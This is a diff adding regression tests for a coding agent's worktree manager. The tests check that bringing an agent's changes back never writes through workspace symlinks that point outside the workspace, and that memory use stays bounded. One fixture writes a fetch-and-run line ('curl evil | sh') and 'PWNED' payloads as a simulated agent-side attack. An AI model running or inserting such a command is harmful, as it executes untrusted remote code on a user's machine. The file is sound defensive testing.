@@ -1,0 +1,90 @@
+// Red-team regressions for chats in worktrees (issue 15): what the agent leaves in its worktree, and what
+// the user's workspace holds, are both untrusted when the worktree's changes are read and brought back.
+// Each test is a bypass found against the first version, driven against real git in temp folders:
+//   - a link in the WORKSPACE (a `lib -> /elsewhere` folder link, a `run.sh -> ~/x` file link) at a path
+//     the agent changed: the change was proposed on the workspace path, so accepting it wrote through the
+//     link outside the workspace; now it is named and never proposed;
+//   - thousands of changed files of the largest size allowed: all of them were read and held at once (and
+//     every deleted file's committed blob fetched); now the bytes held are bounded (maxChangedBytes).
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import type { ChangeSet } from '../../../../src/core/patch/types';
+import { WorktreeManager } from '../../../../src/node/worktrees/worktreeManager';
+import { cleanupFolders, makeRepo, read, write } from './gitFixture';
+
+afterEach(cleanupFolders);
+
+const proposed = (repo: string, changeSet: ChangeSet) => changeSet.changes.flatMap((c) => [c.path, ...(c.movePath ? [c.movePath] : [])]).map((p) => path.relative(repo, p));
+const heldBytes = (changeSet: ChangeSet) => changeSet.changes.reduce((sum, c) => sum + Buffer.byteLength(c.oldText ?? '') + Buffer.byteLength(c.newText ?? ''), 0);
+
+describe('a link in the workspace is never written through by a bring-back', () => {
+  it('a folder link and a file link (dangling too) pointing out: the agent’s files there are named, not proposed', async () => {
+    const { base, repo } = makeRepo({ 'a.txt': 'a\n', 'moved.txt': 'moved\n' });
+    const outside = path.join(base, 'outside');
+    fs.mkdirSync(outside);
+    // Empty: an add over an existing empty file would not even be stale in the review.
+    fs.writeFileSync(path.join(outside, 'victim.txt'), '');
+    fs.writeFileSync(path.join(base, 'victim.sh'), '');
+    fs.symlinkSync(outside, path.join(repo, 'lib'));
+    fs.symlinkSync(path.join(base, 'victim.sh'), path.join(repo, 'run.sh'));
+    fs.symlinkSync(path.join(base, 'not-there-yet'), path.join(repo, 'dangling.txt'));
+    const manager = new WorktreeManager();
+    const wt = await manager.create(repo, 'links');
+    // The links pointing out were not copied: the agent is free to make plain files at those names.
+    write(wt.path, 'lib/victim.txt', 'PWNED\n');
+    write(wt.path, 'run.sh', 'curl evil | sh\n');
+    write(wt.path, 'dangling.txt', 'PWNED\n');
+    fs.renameSync(path.join(wt.path, 'moved.txt'), path.join(wt.path, 'lib', 'moved.txt'));
+    write(wt.path, 'a.txt', 'a\nagent\n');
+    const { changeSet, skipped } = await manager.changes(wt);
+    expect(proposed(repo, changeSet)).toEqual(['a.txt']);
+    const reason = 'a symbolic link in the workspace, or under one (never written through)';
+    expect(skipped).toEqual(
+      expect.arrayContaining([
+        { path: 'lib/victim.txt', reason },
+        { path: 'run.sh', reason },
+        { path: 'dangling.txt', reason },
+        { path: 'lib/moved.txt', reason },
+      ]),
+    );
+    expect(read(outside, 'victim.txt')).toBe('');
+    expect(fs.existsSync(path.join(base, 'not-there-yet'))).toBe(false);
+    await manager.remove(wt);
+  });
+
+  it('a folder the user turned into a link since the worktree was made: the agent’s edit of a file under it is not proposed', async () => {
+    const { base, repo } = makeRepo({ 'src/app.txt': 'app\n' });
+    const manager = new WorktreeManager();
+    const wt = await manager.create(repo, 'swap');
+    write(wt.path, 'src/app.txt', 'app\nagent\n');
+    const elsewhere = path.join(base, 'elsewhere');
+    fs.mkdirSync(elsewhere);
+    fs.writeFileSync(path.join(elsewhere, 'app.txt'), 'app\n'); // the same text: the hunk would not be stale
+    fs.rmSync(path.join(repo, 'src'), { recursive: true });
+    fs.symlinkSync(elsewhere, path.join(repo, 'src'));
+    const { changeSet, skipped } = await manager.changes(wt);
+    expect(changeSet.changes).toEqual([]);
+    expect(skipped.map((s) => s.path)).toContain('src/app.txt');
+    await manager.remove(wt);
+  });
+});
+
+describe('what a bring-back holds in memory is bounded', () => {
+  it('past maxChangedBytes, added, changed and deleted files are named, not read or held', async () => {
+    const committed: Record<string, string> = {};
+    for (let i = 0; i < 10; i++) committed[`old/${i}.txt`] = `${'o'.repeat(999)}\n`;
+    const { repo } = makeRepo(committed);
+    const manager = new WorktreeManager({ limits: { maxChangedBytes: 5_000 } });
+    const wt = await manager.create(repo, 'bounded');
+    fs.rmSync(path.join(wt.path, 'old'), { recursive: true });
+    for (let i = 0; i < 10; i++) write(wt.path, `new/${i}.txt`, `${'n'.repeat(999)}\n`);
+    const { changeSet, skipped } = await manager.changes(wt);
+    expect(heldBytes(changeSet)).toBeLessThanOrEqual(5_000);
+    expect(changeSet.changes.length).toBeGreaterThan(0);
+    const past = skipped.filter((s) => s.reason === 'past the limit of 5000 bytes of changes').map((s) => s.path);
+    // Every one of the 20 changed files is either proposed or named.
+    expect(changeSet.changes.length + past.length).toBe(20);
+    await manager.remove(wt);
+  });
+});
